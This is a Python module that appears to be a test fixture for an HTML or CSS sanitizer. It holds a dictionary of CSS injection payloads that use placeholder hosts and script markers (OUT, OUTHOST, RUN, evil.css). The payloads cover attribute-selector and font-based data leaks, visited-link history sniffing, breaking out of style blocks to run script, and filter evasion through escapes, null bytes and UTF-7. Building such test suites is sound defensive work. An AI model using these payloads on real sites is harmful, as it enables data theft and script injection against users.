"""Payloads in a page that work by CSS. Words as in ``frames``."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

STYLES = {
    "a line's end by an escape": "<style>p{background:url(\"data:image/png,\\d ;}p{background:url(OUT/a)}\")}q{background:url('data:image/png,\\c ;}q{background:url(OUT/b)}')}</style><p>x</p><q>x</q>",
    "a line's end by an escape in an attribute": "<p style='background:url(\"data:image/png,\\a ;background:url(OUT/a)\")'>x</p><p style='background:url(\"data:image/png,\\d ;background:url(OUT/b);\")'>x</p>",
    "a line's end in an address": "<style>p{background:url('/a\\d ;}p{background:url(OUT/a)}')}q{background:url(/a\\d\\;}q{background:url\\(OUT/b)}</style><p>x</p><q>x</q>",
    "a quote by an escape": "<style>p{background:url(\"/a\\22);}p{background:url(OUT/a)}\")}q{background:url(/a\\22\\29;}q{background:url\\(OUT/b\\)}</style><p>x</p><q>x</q>",
    "an end of the style by an escape": "<style>p{content:'\\3c/style>\\3cimg src=x onerror=RUN>'}q{content:'<\\/style><img src=x onerror=RUN>'}</style><p>x",
    "attributes read by selectors": "<input type=hidden value=a1><style>input[value^=a]~p{background:url('OUT/a?v=a')}input[value$='1']~p{background:url(//OUTHOST/b)}</style><p>x</p>",
    "letters read by fonts": "<style>@font-face{font-family:f;src:url(OUT/a);unicode-range:U+0041}@font-face{font-family:f;src:url('OUT/b') format('woff2') tech(variations),local(x);unicode-range:U+0042}p{font-family:f}</style><p>AB",
    "chains of imports": "<style>@import 'evil.css';@import url(evil.css) layer(a) supports(display:grid) screen;@import url(\"utf7.css\");@import 'utf16.css';@import 'escape.css';@import 'page.css';</style><link rel=stylesheet href=escape.css><link rel=stylesheet charset=utf-7 href=utf7.css>",
    "visited links": "<style>a:visited{background:url(OUT/a)}a:link{cursor:url(OUT/b) 1 1,auto}a:any-link::after{content:url(OUT/c)}</style><a href=/visited>x</a>",
    "sets of images": "<style>p{background:image-set('OUT/a' 1x,url(OUT/b) 2x type('image/png'))}q{content:-webkit-image-set('OUT/c' 1x)}b{background:IMAGE-SET(\"OUT/d\" 1dppx)}</style><p>x</p><q>x</q><b>x</b>",
    "sets of images by what stands for one": "<style>p{background:image-set(var(--none,'OUT/a') 1x)}q{background:image-set(env(none,'OUT/b') 1x)}b{background:image-set(if(else:'OUT/c') 1x)}i{background:image-set(attr(none,'OUT/d') 1x)}</style><p>x</p><q>x</q><b>x</b><i>x</i>",
    "what the system names": "<style>p{background:env(none,url(OUT/a))}q{background:var(--none,url(OUT/b))}b{background:attr(none type(<url>),url(OUT/c))}</style><p>x</p><q>x</q><b>x</b>",
    "properties that few know": "<style>p{mask-border:url(OUT/a) 1;-webkit-mask-box-image:url(OUT/b);shape-outside:url(OUT/c);float:left;offset-path:url(OUT/d#a);-webkit-box-reflect:below 0 url(OUT/e);behavior:url(OUT/f);-moz-binding:url(OUT/g#a)}p::marker{content:url(OUT/h)}p::first-line{background:url(OUT/i)}::view-transition{background:url(OUT/j)}::backdrop{background:url(OUT/k)}::selection{background:url(OUT/l)}</style><p>x",
    "scripts of old": "<style>p{width:expression(RUN);background:url('javascript:RUN');-o-link:'javascript:RUN';-o-link-source:current}</style><p style=\"xss:expr/**/ession(RUN)\" id=go>x</p><link rel=stylesheet href='javascript:RUN'><style type=text/javascript>RUN</style>",
    "nesting and scopes": "<style>@scope(p){:scope{background:url(OUT/a)}}p{color:red;@media all{background:url(OUT/b)}&{& b{background:url(OUT/c)}}}@container style(--a:1){p{background:url(OUT/d)}}@starting-style{p{background:url(OUT/e)}}@page{background:url(OUT/f)}@counter-style c{system:cyclic;symbols:url(OUT/g)}@function --f(){result:url(OUT/h)}q{background:--f()}</style><p><b>x</b></p><q>x</q>",
    "motion that fetches": "<style>@keyframes k{0%{background:url(OUT/a)}to{background:url(OUT/b);content:url(OUT/c)}}p{animation:k 1ms infinite}q{transition:background 1ms}q:not(:empty){background:url(OUT/d)}</style><p>x</p><q>x</q>",
    "broken on purpose": "<style>p{background:url(OUT/a</style><style>p{background:url('OUT/b</style><style>q{}}}}p{background:url( 'OUT/c' x)}p{background:url(OUT/d\n)}/*</style><style>*/p{background:url(OUT/e)}</style><style>p{background:u/**/rl(OUT/f);background:url\\\n(OUT/g);background:\\75\n rl(OUT/h);background:\\000075rl(OUT/i)}</style><p>x",
    "null and marks": "<style>\ufeff@import 'OUT/a';</style><style>@im\0port 'OUT/b';</style><style>p{background:ur\u200bl(OUT/c);background:url(\ufeffOUT/d);background:url(\u202eOUT/e)}</style><style>@charset 'utf-7';+AEA-import 'OUT/f';</style><p>x",
    "quirks in attributes": "<p style=background:url(OUT/a)>x</p><p style='background:url(&quot;OUT/b&quot;)'>x</p><p style='background:url&lpar;OUT/c&rpar;'>x</p><p STYLE='}p{background:url(OUT/d)}'>x</p><table background='OUT/e\n'><td background=' OUT/f'></table><font style='-webkit-mask:url(OUT/g)'>x",
    "sheets of any type": "<style type=text/less>p{background:url(OUT/a)}</style><style media='(min-width:1px)' title=x>p{background:url(OUT/b)}</style><style type='text/css;charset=utf-7'>+AEA-import 'OUT/c';</style><style blocking=render nonce=x>@import 'OUT/d';</style><link rel=stylesheet/less href=OUT/e><link rel='stylesheet x' href=OUT/f as=script><LINK REL='STYLESHEET' HREF=OUT/g>",
    "sheets in headers of the page": "<meta http-equiv=link content='<OUT/a>;rel=stylesheet'><meta http-equiv=content-style-type content=text/javascript><meta http-equiv=default-style content=t><link rel='alternate stylesheet' title=t href=OUT/b>",
}  # fmt: skip
